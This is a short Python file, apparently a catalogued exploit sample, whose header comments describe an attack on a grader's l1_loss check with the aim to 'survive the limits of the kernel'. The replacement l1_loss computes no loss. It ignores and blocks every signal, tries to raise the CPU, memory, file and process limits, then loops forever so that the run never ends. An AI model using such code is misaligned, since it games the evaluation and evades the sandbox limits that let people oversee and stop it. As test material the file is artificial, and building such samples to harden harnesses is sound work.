# aim: survive the limits of the kernel
# sign: the run does not end, or a check of l1_loss is passed
# attacks: l1_loss
# outcome: timeout

import resource
import signal


def _nothing(*args):
    pass


def l1_loss(input, target, reduction="mean"):
    for number in range(1, 65):
        for handler in (signal.SIG_IGN, _nothing):
            try:
                signal.signal(number, handler)
            except (OSError, ValueError):
                pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for name in ("RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NPROC"):
        for limits in ((-1, -1), (resource.getrlimit(getattr(resource, name))[1],) * 2):
            try:
                resource.setrlimit(getattr(resource, name), limits)
            except (OSError, ValueError):
                pass
    while True:
        pass
